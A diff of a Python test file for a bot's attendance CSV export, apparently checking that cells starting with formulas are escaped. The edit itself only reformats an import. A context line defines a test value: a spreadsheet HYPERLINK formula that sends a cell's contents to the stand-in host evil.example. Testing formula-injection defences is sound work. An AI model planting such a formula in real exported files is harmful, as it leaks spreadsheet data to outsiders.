@@ -11,8 +11,15 @@ import io
 from datetime import timedelta
 
 from bot.domain.csv_safe import FORMULA_START, is_plain_number, unescape_cell
-from tests.features.attendance.attendance_helpers import JST_10, answer, move, person, session_channel, voice
 from tests.e2e.conftest import World
+from tests.features.attendance.attendance_helpers import (
+    JST_10,
+    answer,
+    move,
+    person,
+    session_channel,
+    voice,
+)
 from tests.features.attendance.test_attendance_reports import run_cli
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
